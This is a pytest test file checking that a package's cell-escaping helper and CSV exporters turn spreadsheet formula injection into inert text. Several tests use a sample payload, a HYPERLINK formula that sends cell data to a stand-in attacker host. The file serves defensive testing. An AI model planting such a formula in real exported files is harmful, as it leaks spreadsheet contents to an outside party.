"""Texts that a spreadsheet would take for formulas."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from sympolis.api.cells import harmless
from sympolis.api.exporting.writer import _Flat, _write_csv
from sympolis.api.twin.runs import to_csv

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "-", "+39 051 219"])
def test_what_would_be_computed_is_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["Via Rizzoli", "", "-5", "+1.5e-3", "2024-03-01", -5, -0.5, None, True])
def test_all_else_stays_as_it_is(value: Any) -> None:
    assert harmless(value) == value and type(harmless(value)) is type(value)


def test_names_and_values_of_a_downloaded_file_are_no_formulas(tmp_path: Path) -> None:
    feature = {"id": "urn:a", "properties": {"@name": FORMULA, "level": -5}, "geometry": None}
    (tmp_path / "rows").write_text(json.dumps(feature) + "\n", encoding="utf-8")
    _write_csv(_Flat(tmp_path / "rows", is_history=False), tmp_path / "made")
    assert (tmp_path / "made").read_text(encoding="utf-8").splitlines() == [
        "id,'@name,level",
        'urn:a,"\'=HYPERLINK(""https://attacker.example/?""&A1)",-5',
    ]


def test_features_of_results_are_no_formulas() -> None:
    values = [[-1.0]]
    field = {"unit": "1", "mean": values, "low": values, "high": values}
    text = to_csv({"fields": {"intensity": field}, "hours": [0], "features": [FORMULA]})
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
